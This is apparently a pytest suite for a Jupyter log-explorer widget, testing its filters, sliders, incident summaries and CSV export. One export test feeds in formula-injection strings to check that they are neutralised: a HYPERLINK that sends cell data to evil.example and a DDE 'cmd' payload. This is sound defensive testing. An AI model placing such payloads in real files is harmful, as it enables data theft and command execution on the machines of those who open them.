"""The explorer driven from code: each control changes what the outputs show, and only that."""

import gc
import html
import os
import re

import numpy as np
import pandas as pd
import pytest

import toolkit
from toolkit.widgets import Explorer, View, explore
from toolkit.widgets._debounce import Debounce as _Debounce


@pytest.fixture(scope="module")
def df(sample_load):
    return sample_load.frame


@pytest.fixture(scope="module")
def incidents(df):
    return toolkit.find_incidents(df)


@pytest.fixture
def app(df, incidents):
    return explore(df, incidents=incidents, debounce="0s")


def table_rows(value: str) -> list[list[str]]:
    """The body cells of the HTML table in a widget's value."""
    body = value.split("<tbody>", 1)[1] if "<tbody>" in value else ""
    return [[html.unescape(c) for c in re.findall(r"<td>(.*?)</td>", row, flags=re.S)]
            for row in re.findall(r"<tr>(.*?)</tr>", body, flags=re.S)]


def scope(df, app):
    """The calls inside the app's time range, market and endpoint search, recomputed with pandas."""
    t0, t1 = (pd.Timestamp(v, tz="UTC") for v in app.time_range.value)
    view = df[(df["ts"] >= t0) & (df["ts"] < t1)]
    if app.market.value:
        view = view[view["market"] == app.market.value]
    if app.endpoint.value:
        view = view[view["endpoint"].astype(str).str.contains(app.endpoint.value, case=False, regex=False)]
    return view


def assert_timeline_is_error_rate(df, app, freq):
    """What the plot shows is toolkit.error_rate(view, by="category") for the chosen error categories."""
    view = scope(df, app)
    expected = toolkit.error_rate(view, freq=freq, by="category")
    expected = expected[expected["category"].isin(app.categories.value)].reset_index(drop=True)
    got = app.timeline
    got = got[(got["ts"] >= expected["ts"].min()) & (got["ts"] <= expected["ts"].max())].reset_index(drop=True)
    pd.testing.assert_frame_equal(got, expected, check_categorical=False)


def test_explorer_shows_the_timeline_tables_and_incidents(app, df, incidents):
    assert isinstance(app, Explorer)
    assert bytes(app.plot.value).startswith(b"\x89PNG") and app.plot.format == "png"
    assert len(app.incident.options) == len(incidents) >= 9
    assert app.incident.options[0][0].startswith("Mon 16 Nov 21:20")
    top = table_rows(app.top_table.value)
    assert top[0][2:4] == ["futures", "rate_limit"] and len(top) == 8
    rows = table_rows(app.rows_table.value)
    assert len(rows) == 12 and all(r[5] != "ok" for r in rows)
    assert "of 15,560 rows in view" in app.rows_table.value
    assert "all markets · 126,804 calls, 15,560 rows in view" in app.status.value
    assert app.view_rows == int(df["is_error"].sum())


def test_timeline_is_error_rate_by_category(app, df):
    assert_timeline_is_error_rate(df, app, "1h")
    app.market.value = "spot"
    app.bucket.value = "15min"
    assert_timeline_is_error_rate(df, app, "15min")
    app.endpoint.value = "order"
    app.zoom("2026-11-18 12:00", "2026-11-18 18:00")
    assert_timeline_is_error_rate(df, app, "15min")
    app.bucket.value = "auto"
    assert "· 1min buckets ·" in app.status.value  # six hours of one-minute buckets stay under 600
    assert_timeline_is_error_rate(df, app, "1min")


def test_market_narrows_every_output(app, df):
    app.market.value = "spot"
    assert {r[2] for r in table_rows(app.top_table.value)} == {"spot"}
    assert {r[1] for r in table_rows(app.rows_table.value)} == {"spot"}
    assert app.view_calls == int((df["market"] == "spot").sum())
    assert int(app.timeline.drop_duplicates("ts")["calls"].sum()) == app.view_calls
    assert set(app.top["market"].astype(str)) == {"spot"}
    pd.testing.assert_frame_equal(app.top, toolkit.top_errors(app.rows_in_view(), n=8))


def test_categories_choose_what_is_plotted_listed_and_sampled(app):
    app.categories.value = ("auth", "server_error")
    assert set(app.timeline["category"].astype(str)) == {"auth", "server_error"}
    assert {r[3] for r in table_rows(app.top_table.value)} == {"auth", "server_error"}
    assert {r[5] for r in table_rows(app.rows_table.value)} <= {"auth", "server_error"}
    rows = app.rows_in_view()
    assert set(rows["category"].astype(str)) == {"auth", "server_error"} and len(rows) == app.view_rows
    app.categories.value = ("ok",)
    assert app.timeline.empty and "No errors in view." in app.top_table.value
    assert {r[5] for r in table_rows(app.rows_table.value)} == {"ok"}


def test_endpoint_search(app, df):
    app.endpoint.value = "kline"
    kline = df["endpoint"].astype(str).str.contains("kline")
    assert app.view_calls == int(kline.sum())
    assert all("kline" in r[2] for r in table_rows(app.rows_table.value))
    app.endpoint.value = "/api/v1/futures/open-api/kline"
    assert app.view_calls == int((df["endpoint"] == "/api/v1/futures/open-api/kline").sum())
    app.endpoint.value = "no-such-endpoint"
    assert app.view_calls == 0 and "No rows in view." in app.rows_table.value
    assert bytes(app.plot.value).startswith(b"\x89PNG")
    assert app.endpoint.options == tuple(sorted(df["endpoint"].astype(str).unique()))


def test_bucket_size(app):
    for bucket, step in [("5min", "5min"), ("1D", "1D"), ("auto", "1h")]:
        app.bucket.value = bucket
        steps = app.timeline["ts"].drop_duplicates().diff().dropna().unique()
        assert list(steps) == [pd.Timedelta(step)]


def test_time_range(app, df):
    n = len(app.time_range.options)
    app.time_range.index = (0, n // 7)
    t0, t1 = (pd.Timestamp(v, tz="UTC") for v in app.time_range.value)
    rows = app.rows_in_view()
    assert rows["ts"].between(t0, t1, inclusive="left").all()
    assert rows["ts"].is_monotonic_increasing
    assert len(rows) == int(((df["ts"] >= t0) & (df["ts"] < t1) & df["is_error"]).sum())
    assert app.time_label.value == f"{t0:%a %d %b %H:%M} to {t1:%a %d %b %H:%M}"


def test_choosing_an_incident_zooms_and_explains_it(app, df, incidents):
    pick = incidents.index[(incidents["market"] == "spot") & (incidents["category"] == "server_error")][0]
    inc = incidents.loc[pick]
    before = app.redraws
    app.incident.value = int(pick)
    assert app.redraws == before + 1  # one redraw for market, time range and summary together
    assert app.market.value == "spot"
    t0, t1 = (pd.Timestamp(v, tz="UTC") for v in app.time_zoom.value)  # the window: the incident, and around it
    assert t0 <= inc["start"] and inc["end"] <= t1 and t1 - t0 <= pd.Timedelta("3h")
    o0, o1 = (pd.Timestamp(v, tz="UTC") for v in app.time_range.value)  # the overview holds it
    assert o0 <= t0 and t1 <= o1
    window = toolkit.describe_window(df, start=inc["start"], end=inc["end"], market="spot", incidents=incidents)
    shown = html.unescape(re.sub("<[^>]+>", "", app.incident_summary.value))
    assert shown == f"Whose fault: the exchange (an exchange outage): {window.evidence}" + window.summary
    assert "server_error" in window.summary and "exchange-wide" in window.summary  # the outage hit both markets
    assert "calls failed on the exchange's side" in window.evidence
    for name, table in window.tables().items():
        pd.testing.assert_frame_equal(app.explanation.tables()[name], table)
    assert table_rows(app.top_table.value)[0][3] == "server_error"
    app.reset()
    assert app.market.value == "" and app.time_range.index == (0, len(app.time_range.options) - 1)
    assert app.incident.value is None and app.incident_summary.value == "" and app.explanation is None


def test_reset_brings_back_every_control(app):
    app.categories.value = ("auth",)
    app.endpoint.value = "order"
    app.bucket.value = "5min"
    app.zoom("2026-11-18 14:00", "2026-11-18 15:00", market="futures")
    app.reset_button.click()
    assert app.market.value == "" and app.endpoint.value == "" and app.bucket.value == "auto"
    assert app.categories.value == tuple(c for c in app.categories.options if c != "ok")
    assert app.time_range.index == (0, len(app.time_range.options) - 1)
    assert (app.view.market, app.view.endpoint, app.view.categories) == ("", "", app.categories.value)
    assert "all markets · 126,804 calls, 15,560 rows in view" in app.status.value


def test_zoom_from_code(app):
    app.zoom("2026-11-18 14:00", "2026-11-18 15:00", market="futures")
    assert app.time_zoom.value == (pd.Timestamp("2026-11-18 14:00", tz="UTC").value,
                                   pd.Timestamp("2026-11-18 15:00", tz="UTC").value)
    assert app.market.value == "futures" and "server_error" in set(app.timeline["category"].astype(str))
    with pytest.raises(ValueError, match="zoom\\(\\): market must be one of spot, futures, unknown .*not 'options'"):
        app.zoom("2026-11-18 14:00", "2026-11-18 15:00", market="options")


def test_close_frees_the_app(df, incidents):
    from ipywidgets.widgets.widget import _instances as live_widgets

    before = len(live_widgets)
    app = explore(df, incidents=incidents)
    assert len(live_widgets) > before
    app.close()
    assert len(live_widgets) == before


def test_export_writes_the_rows_in_view(df, incidents, tmp_path):
    app = explore(df, incidents=incidents, export_dir=tmp_path)
    app.market.value = "futures"
    app.categories.value = ("upstream_error",)
    app.export_button.click()
    files = list(tmp_path.iterdir())
    assert len(files) == 1 and files[0].suffix == ".csv" and "futures" in files[0].name
    back = pd.read_csv(files[0])
    view = app.rows_in_view()
    assert len(back) == len(view) == app.view_rows > 0
    assert list(back.columns) == list(df.columns)
    assert set(back["category"]) == {"upstream_error"}
    assert str(files[0].resolve()) in app.messages.value
    assert app.status.value.startswith(f"<span>{app.time_label.value}")  # the status line stays as it was


def test_export_to_a_missing_folder_says_so(df, incidents, tmp_path):
    app = explore(df, incidents=incidents, export_dir=tmp_path / "nope")
    with pytest.raises(FileNotFoundError, match="export_dir .* does not exist"):
        app.export()
    assert "export failed" in app.messages.value


def test_the_frame_is_left_alone(df, incidents):
    df = df[df["ts"] < pd.Timestamp("2026-11-17", tz="UTC")].sample(frac=1, random_state=1)  # one day, shuffled
    before = df.copy()
    app = explore(df, incidents=incidents)
    app.market.value = "spot"
    app.incident.value = 0
    app.rows_in_view()
    pd.testing.assert_frame_equal(df, before)


def test_outputs_are_replaced_in_place(app):
    """No Output widget cleared then refilled, no pyplot figure: the same widgets get new values."""
    import ipywidgets
    import matplotlib.pyplot as plt

    def walk(w):
        yield w
        for c in getattr(w, "children", ()):
            yield from walk(c)

    assert not any(isinstance(w, ipywidgets.Output) for w in walk(app))
    plot, top = app.plot, app.top_table
    seen = []
    plot.observe(lambda change: seen.append(change["new"]), names="value")
    for market in ("spot", "futures", ""):
        app.market.value = market
    assert app.plot is plot and app.top_table is top
    assert len(seen) == 3 and all(bytes(v).startswith(b"\x89PNG") for v in seen)  # never an empty frame in between
    assert plt.get_fignums() == []


class FakeClock:
    """``call_later`` on a clock that moves only when told: due timers fire in :meth:`advance`."""

    class Timer:
        def __init__(self, when, callback):
            self.when, self.callback, self.cancelled = when, callback, False

        def cancel(self):
            self.cancelled = True

    def __init__(self):
        self.now, self.timers = 0.0, []

    def call_later(self, delay, callback):
        timer = self.Timer(self.now + delay, callback)
        self.timers.append(timer)
        return timer

    def advance(self, seconds):
        self.now += seconds
        due = [t for t in self.timers if t.when <= self.now and not t.cancelled]
        self.timers = [t for t in self.timers if t not in due and not t.cancelled]
        for timer in sorted(due, key=lambda t: t.when):
            timer.callback()


def test_the_debounce_calls_once_after_the_changes_stop():
    clock, calls = FakeClock(), []
    debounced = _Debounce(lambda: calls.append(clock.now), 0.25, call_later=clock.call_later)
    for _ in range(10):  # a change every 0.1 s: never 0.25 s of rest
        debounced()
        clock.advance(0.1)
    assert calls == [] and debounced.pending
    clock.advance(0.25)
    assert calls == [pytest.approx(1.25)] and not debounced.pending  # 0.25 s after the last change
    debounced()
    debounced.flush()  # at once, and only once
    assert len(calls) == 2 and calls[-1] == pytest.approx(1.25)
    clock.advance(1)
    assert len(calls) == 2
    _Debounce(lambda: calls.append("now"), 0.25)()  # outside an event loop, and with no clock: at once
    assert calls[-1] == "now"


def test_time_slider_is_debounced(df, incidents):
    app = explore(df, incidents=incidents, debounce="250ms")
    clock = FakeClock()
    app._slider_redraw.call_later = clock.call_later
    n = len(app.time_range.options)
    before = app.redraws
    for i in range(1, 30):  # dragged: a new position every 10 ms
        app.time_range.index = (i, n - 1)
        clock.advance(0.01)
    assert app.redraws == before  # nothing redrawn while the slider moves ...
    assert app.time_label.value.startswith(f"{pd.Timestamp(app.time_range.value[0], tz='UTC'):%a %d %b %H:%M}")
    clock.advance(0.25)
    assert app.redraws == before + 1  # ... one redraw once it rested, at its last position
    assert app.time_range.index == (29, n - 1) and app.status.value.startswith(f"<span>{app.time_label.value}")
    app.time_range.index = (3, n - 1)
    app.flush()  # at once
    assert app.redraws == before + 2 and app.status.value.startswith(f"<span>{app.time_label.value}")
    clock.advance(1)
    assert app.redraws == before + 2
    app.market.value = "spot"  # other controls redraw at once
    assert app.redraws == before + 3


def test_the_explorer_draws_its_view_as_plots_timeline_does(app, df, incidents, monkeypatch):
    """The picture is toolkit.plots.timeline's: drawn by the same function, from error_rate's counts."""
    import matplotlib.pyplot as plt

    drawn = []
    draw = toolkit.plots.draw_timeline
    monkeypatch.setattr(toolkit.plots, "draw_timeline", lambda ax, *a, **k: drawn.append((a, k)) or draw(ax, *a, **k))
    app.market.value = "spot"
    (starts, calls, errors), kwargs = drawn[-1]
    assert kwargs["freq"] == "1h" and kwargs["title"] == "Errors per category, spot (UTC)"
    view = scope(df, app)
    total = toolkit.error_rate(view, freq="1h", by=None)
    at = np.searchsorted(starts, pd.DatetimeIndex(total["ts"]).as_unit("ns").asi8)
    assert (calls[at] == total["calls"].to_numpy()).all() and calls.sum() == len(view) == app.view_calls
    per = toolkit.error_rate(view, freq="1h", by="category")
    assert list(errors) == [c for c in toolkit.CATEGORIES if c != "ok" and (per["category"] == c).any()]
    for category, counts in errors.items():
        assert (counts[at] == per.loc[per["category"] == category, "errors"].to_numpy()).all(), category

    ours = app._fig.axes[0]
    spot = incidents[incidents["market"] == "spot"]
    theirs = toolkit.plots.timeline(view, freq="1h", incidents=spot, ax=plt.subplots(figsize=(11, 3.8))[1])
    try:
        for part in (lambda ax: ax.get_title(), lambda ax: ax.get_yscale(), lambda ax: ax.get_ylabel(),
                     lambda ax: [t.get_text() for t in ax.get_legend().get_texts()]):
            assert part(ours) == part(theirs)
        assert ours.get_yscale() == "symlog"  # two big spikes: small incidents still show
        assert ours.get_zorder() > app._fig.axes[1].get_zorder()  # the calls line behind the bars
        app._fig.canvas.draw()
        box, page = ours.get_legend().get_window_extent(), app._fig.bbox
        assert page.x0 <= box.x0 and box.x1 <= page.x1 and page.y0 <= box.y0 and box.y1 <= page.y1
    finally:
        plt.close(theirs.figure)


def test_the_view_model_needs_no_widgets(tmp_path):
    """toolkit.widgets.View computes what the explorer shows without importing ipywidgets."""
    import subprocess
    import sys

    code = (
        "import sys, toolkit\n"
        "from toolkit.widgets import View\n"
        "view = View(toolkit.load_logs('data/sample'))\n"
        "view.market, view.categories = 'futures', ('rate_limit',)\n"
        "shown = view.snapshot()\n"
        "assert 'ipywidgets' not in sys.modules, 'ipywidgets was imported'\n"
        "print(shown.rows, '|'.join(shown.top['category'].astype(str).unique()), shown.counts.freq)\n"
    )
    from tests.conftest import ROOT

    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True).stdout
    rows, categories, freq = out.split()
    assert int(rows) > 0 and categories == "rate_limit" and freq == "1h"


def test_the_view_model_alone(df, incidents, tmp_path):
    view = View(df, incidents=incidents)
    view.market, view.endpoint, view.categories = "futures", "order", ("rate_limit", "ok")
    view.zoom("2026-11-21 09:00", "2026-11-21 15:00")
    shown = view.snapshot()
    rows = view.rows_in_view()
    t0, t1 = (pd.Timestamp(v, tz="UTC") for v in shown.window)
    want = df[(df["ts"] >= t0) & (df["ts"] < t1) & (df["market"] == "futures")
              & df["endpoint"].astype(str).str.contains("order") & df["category"].isin(["rate_limit", "ok"])]
    assert len(rows) == shown.rows == len(want) and rows.index.tolist() == want.sort_values("ts").index.tolist()
    pd.testing.assert_frame_equal(shown.top, toolkit.top_errors(rows, n=8))
    assert list(shown.counts.errors) == ["rate_limit"] and shown.counts.freq == "1min"
    assert view.handles(7, 7) == (7, 24) and view.handles(9, 2) == (2, 19)  # the overview: 17 steps of a week
    assert view.detail_handles(7, 7) == (7, 8) and view.detail_handles(9, 2) == (2, 9)  # the zoom slider: one
    assert [i for _, i in view.incident_options()] == [i for i in range(len(incidents))
                                                       if incidents["market"].iloc[i] == "futures"]
    path = view.export(tmp_path)
    assert path.name == "toolkit-rows-20261121-0900-20261121-1500-futures.csv" and len(pd.read_csv(path)) == len(rows)
    view.categories = ()
    assert view.export(tmp_path) is None and [p.name for p in tmp_path.iterdir()] == [path.name]
    view.choose(0)
    assert view.incident == 0 and view.explanation is not None and view.market == str(incidents["market"].iloc[0])
    view.reset()
    assert view.market == "" and view.incident is None and view.explanation is None


def _resident_bytes() -> int:
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


@pytest.mark.skipif(not os.path.exists("/proc/self/statm"), reason="reads the resident size from /proc")
def test_memory_stays_flat_over_200_interactions(df, incidents):
    """Over the second hundred of 200 interactions no widget is added and neither live objects nor memory grow."""
    from ipywidgets.widgets.widget import _instances as live_widgets

    cut = pd.Timestamp("2026-11-18", tz="UTC")
    app = explore(df[df["ts"] < cut], incidents=incidents[incidents["end"] <= cut], debounce="0s")
    n = len(app.time_range.options)
    steps = [
        lambda i: setattr(app.market, "value", ["spot", "futures", ""][i % 3]),
        lambda i: setattr(app.bucket, "value", ["5min", "15min", "auto"][i % 3]),
        lambda i: setattr(app.time_range, "index", (i % (n // 2), n - 1 - i % 7)),
        lambda i: setattr(app.categories, "value", (("auth",), ("rate_limit", "server_error"))[i % 2]),
        lambda i: setattr(app.endpoint, "value", ["order", "", "depth"][i % 3]),
        lambda i: setattr(app.incident, "value", app.incident.options[i % len(app.incident.options)][1]
                          if app.incident.options else None),
        lambda i: app.reset(),
    ]

    def interact(first, last):
        for i in range(first, last):
            steps[i % len(steps)](i)
        gc.collect()
        return len(live_widgets), len(gc.get_objects()), _resident_bytes()

    widgets, objects, resident = interact(0, 100)  # caches (fonts, text layout, tick formats) fill up here
    widgets_end, objects_end, resident_end = interact(100, 200)
    assert app.redraws >= 170
    assert widgets_end == widgets
    assert objects_end - objects < 2_000, f"{objects_end - objects:,} more live objects over 100 interactions"
    assert resident_end - resident < 20e6, f"resident memory grew {(resident_end - resident) / 1e6:.0f} MB"


@pytest.mark.parametrize("frame, kwargs, error, message", [
    ("list", {}, TypeError, "explore() takes the DataFrame from toolkit.load_logs, not list"),
    ("ts only", {}, ValueError, "explore() needs the column(s) market"),
    ("empty", {}, ValueError, "explore(): the frame holds no calls"),
    ("ts as text", {}, ValueError, "explore(): ts must hold datetimes (datetime64, UTC), not str"),
    ("ts missing", {}, ValueError, "explore(): ts has 1 missing time(s) (NaT); drop those rows first"),
    ("sample", {"debounce": "-1s"}, ValueError, "explore(): debounce must be a duration such as '5min' or '1h'"),
    ("sample", {"debounce": 0.25}, ValueError, "debounce must be a duration such as '5min' or '1h', not the bare number"),
    ("sample", {"incidents": "all"}, ValueError, "incidents must be a DataFrame such as toolkit.find_incidents"),
])
def test_bad_input_says_what_is_wrong(df, frame, kwargs, error, message):
    head = df.head(50)
    frames = {"list": [1, 2], "ts only": pd.DataFrame({"ts": []}), "empty": df.iloc[:0], "sample": df,
              "ts as text": head.assign(ts=head["ts"].astype(str)),
              "ts missing": head.assign(ts=head["ts"].where(head.index != head.index[3]))}
    with pytest.raises(error, match=re.escape(message)):
        explore(frames[frame], **kwargs)


def test_controls_offer_what_the_data_holds(app, df):
    assert app.bucket.options == tuple(toolkit.widgets.BUCKETS)
    assert [v for _, v in app.market.options] == ["", "spot", "futures"]
    assert app.categories.options[0] == "ok" and "ok" not in app.categories.value
    assert set(app.categories.options) == set(df["category"].astype(str))
    starts = np.array([v for _, v in app.time_range.options])
    assert np.all(np.diff(starts) == pd.Timedelta("15min").value)  # a week: 15-minute steps
    assert starts[0] <= df["ts"].min().value and starts[-1] > df["ts"].max().value


def test_naive_times_are_taken_as_utc(df, incidents):
    head = df[df["ts"] < pd.Timestamp("2026-11-16 06:00", tz="UTC")]
    app = explore(head.assign(ts=head["ts"].dt.tz_localize(None)), incidents=incidents.iloc[:0])
    assert app.view_calls == len(head)
    assert app.time_range.value[0] == pd.Timestamp("2026-11-16", tz="UTC").value


def test_exports_never_overwrite_and_an_empty_view_says_so(df, incidents, tmp_path):
    app = explore(df, incidents=incidents, export_dir=tmp_path, debounce="0s")
    app.market.value = "spot"
    first, second = app.export(), app.export()
    assert first != second and first.exists() and second.name.endswith("-2.csv")
    assert first.read_text() == second.read_text()
    app.categories.value = ()
    assert app.export() is None
    assert "nothing to export: no rows in view" in app.messages.value
    assert len(list(tmp_path.iterdir())) == 2


def test_the_explanation_is_cleared_when_the_view_changes(app, incidents):
    app.incident.value = 0
    assert app.explanation is not None and app.incident_summary.value and app.incident.value == 0
    app.endpoint.value = "order"
    assert app.explanation is None and app.incident_summary.value == "" and app.incident.value is None
    app.incident.value = 0
    app.zoom("2026-11-18 13:30", "2026-11-18 15:15")
    assert app.explanation is None and app.incident.value is None


def test_the_incident_list_follows_the_market(app, incidents):
    app.market.value = "futures"
    listed = [i for _, i in app.incident.options]
    assert listed == [i for i in range(len(incidents)) if incidents["market"].iloc[i] == "futures"]
    app.market.value = ""
    assert len(app.incident.options) == len(incidents)


@pytest.mark.parametrize("index, want", [((5, 5), (5, 22)), ((9, 3), (3, 20)), ((30, 60), (30, 60)),
                                         ("last", "last")])
def test_the_overview_handles_keep_their_order_and_never_share_a_pixel(app, index, want):
    last = len(app.time_range.options) - 1  # a week in 15-minute steps: handles 1/40 of it (17 steps) apart
    if index == "last":
        index, want = (last, last), (last - 17, last)
    app.time_range.index = index
    assert app.time_range.index == want
    assert app.time_zoom.value == app.time_range.value  # the zoom slider spans the selection, all of it in view


def test_a_window_of_minutes_is_easy_to_drag(app, df):
    app.zoom("2026-11-18 14:11", "2026-11-18 14:26")  # 15 minutes of a week
    t0, t1 = (pd.Timestamp(v, tz="UTC") for v in app.time_zoom.value)
    assert (t0, t1) == (pd.Timestamp("2026-11-18 14:11", tz="UTC"), pd.Timestamp("2026-11-18 14:26", tz="UTC"))
    steps = np.diff([v for _, v in app.time_zoom.options])
    assert set(steps) == {pd.Timedelta("1min").value}  # the zoom slider moves a minute at a time ...
    d0, d1 = app.time_zoom.index
    assert (d1 - d0) / (len(app.time_zoom.options) - 1) >= 1 / 40  # ... its handles far apart on it
    o0, o1 = app.time_range.index
    assert o1 - o0 >= (len(app.time_range.options) - 1) / 40  # and the overview's too
    assert app.time_label.value.startswith("Wed 18 Nov 14:11 to Wed 18 Nov 14:26")
    rows = app.rows_in_view()
    assert rows["ts"].between(t0, t1, inclusive="left").all()
    assert len(rows) == int(((df["ts"] >= t0) & (df["ts"] < t1) & df["is_error"]).sum())
    app.time_zoom.index = (d0 + 5, d1)  # narrowed on the zoom slider: the overview stays
    assert app.time_range.index == (o0, o1) and app.view.window()[0] == (t0 + pd.Timedelta("5min")).value
    app.time_zoom.index = (d0, d0)
    assert app.time_zoom.index == (d0, d0 + 1)  # never on one position


def test_missing_values_read_the_same_in_the_explorer_and_the_report(app):
    from toolkit import defaults
    from toolkit.report import styled

    app.categories.value = ("transport",)  # timeouts: no HTTP status, no code
    cells = [c for row in table_rows(app.rows_table.value) for c in row]
    assert defaults.MISSING in cells and "<NA>" not in cells and "nan" not in cells
    page = styled(app.sample, drop_empty=False).to_html()
    assert f">{defaults.MISSING}</td>" in page and "&lt;NA&gt;" not in page
    assert "http_status" not in styled(app.sample).to_html()  # the report leaves out a column with no value


def test_the_tables_wrap_their_long_text(app):
    """Each table ends with its long text, the one cell that wraps (anywhere), so a long message never widens it."""
    from toolkit.widgets import _html

    rule = re.search(r"\.toolkit-table td:last-child \{([^}]*)\}", _html.CSS).group(1)
    assert "overflow-wrap: anywhere" in rule and "white-space: normal" in rule
    assert re.findall(r"<th>(\w+)</th>", app.top_table.value)[-1] == "pattern"
    assert re.findall(r"<th>(\w+)</th>", app.rows_table.value)[-1] == "message"


def test_the_explorer_offers_buckets_from_the_one_ladder():
    from toolkit import defaults

    assert set(defaults.EXPLORER_BUCKETS[1:]) <= set(defaults.STEPS)
    assert set(defaults.EXPLORER_TIME_STEPS) <= set(defaults.STEPS)


def test_the_bot_control_narrows_every_output(app, df):
    assert [v for _, v in app.bot.options] == ["", "futures-arb", "futures-gateway", "spot-bot"]
    assert app.bot in app.children[0].children[2].children[0].children  # beside the market
    assert "per bot: futures-arb: 32,398 calls" in app.status.value
    app.bot.value = "futures-arb"
    mine = df[df["bot"] == "futures-arb"]
    assert app.view_calls == len(mine) and app.view_rows == int(mine["is_error"].sum())
    assert set(app.rows_in_view()["bot"].astype(str)) == {"futures-arb"}
    pd.testing.assert_frame_equal(app.top, toolkit.top_errors(app.rows_in_view(), n=8))
    assert "<b>futures-arb: 32,398 calls" in app.status.value and "· futures-arb ·" in app.status.value
    assert [i for _, i in app.incident.options] == [
        i for i, m in enumerate(app.view.incidents["market"].astype(str)) if m == "futures"]  # the bot's market
    app.reset_button.click()
    assert app.bot.value == "" and app.view_calls == len(df)


def test_bot_means_the_calls_of_those_bots_only(df, incidents, tmp_path):
    two = ["futures-arb", "spot-bot"]
    app = explore(df, incidents=incidents, bot=two, debounce="0s", export_dir=tmp_path)
    assert [v for _, v in app.bot.options] == ["", *two] and app.view_calls == int(df["bot"].isin(two).sum())
    app.bot.value = "spot-bot"
    assert app.export().name.endswith("-spot-bot.csv")
    with pytest.raises(toolkit.ParameterError, match=r"explore\(\): the frame holds no calls"):
        explore(df, incidents=incidents, bot="nobody")
    with pytest.raises(toolkit.ParameterError, match=r"explore\(\): bot must be a bot's name or a list of them"):
        explore(df, incidents=incidents, bot=5)


def test_one_bot_gets_no_bot_control(df, incidents):
    one = df[df["bot"] == "spot-bot"]
    app = explore(one, incidents=incidents.iloc[:0], debounce="0s")
    assert app.bot not in app.children[0].children[2].children[0].children
    assert "per bot" not in app.status.value
def test_the_export_opens_safely_in_a_spreadsheet(tmp_path):
    import csv

    from tests.conftest import SPOT, call, jsonl

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
               "\tindented", "\rstarts with a CR", "two\rrows", "签名验证失败"]
    log = jsonl(tmp_path / "calls.jsonl", *(call(SPOT, 400, {"code": 400, "msg": m}, ts=f"2026-11-20T21:05:{i:02d}Z")
                                            for i, m in enumerate(hostile)))
    view = View(toolkit.load_logs(log))
    path = view.export(tmp_path)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the file as UTF-8, Chinese and all
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(hostile)  # a CR inside a message splits no row
    assert [r["message"] for r in rows] == ["'" + m if m[0] in "=+-@\t\r" else m for m in hostile]
    assert all(r["latency_ms"] == "" or not r["latency_ms"].startswith("'") for r in rows)


def test_an_explorer_of_one_market_still_says_the_outage_was_exchange_wide(df):
    """Scope is decided before the market filter: the spot half of Wednesday's outage still counts."""
    view = View(df, market="futures", start="2026-11-18 12:00", end="2026-11-18 18:00")
    outage = view.incidents[view.incidents["category"].astype(str) == "server_error"]
    assert outage["market"].astype(str).tolist() == ["futures"]
    assert outage["scope"].tolist() == ["exchange-wide"]


def test_the_explorer_shows_every_category_whole_labels_and_words(df, incidents):
    app = explore(df, incidents=incidents, debounce="0s")
    assert app.categories.rows == len(app.categories.options)  # every category in view, none below a scroll
    box = [w for w in _boxes(app) if app.incident in getattr(w, "children", ())][0]
    assert box.layout.width == "100%"  # the incidents' list runs the app's width: labels are not cut off
    app.incident.value = int(incidents.index[incidents["category"].astype(str) == "server_error"][0])
    assert "Whose fault: the exchange</b> (an exchange outage)" in app.incident_summary.value


def test_the_error_axis_is_scaled_to_the_view(df, incidents):
    app = explore(df, incidents=incidents, debounce="0s")
    assert app._ax.get_ylim()[1] > 1000  # the week, with its 429 storms
    timeouts = df.loc[(df["category"] == "transport").to_numpy(bool), "ts"].sort_values()
    gap = timeouts.diff().idxmax()  # the longest stretch without a timeout
    start = timeouts.loc[:gap].iloc[-2]  # the last timeout before it
    app.categories.value = ("transport",)
    app.zoom(start + pd.Timedelta("1min"), start + pd.Timedelta("31min"))
    assert app.view_rows == 0 and app._ax.get_ylim()[1] < 5


def _boxes(w):
    yield w
    for child in getattr(w, "children", ()):
        yield from _boxes(child)
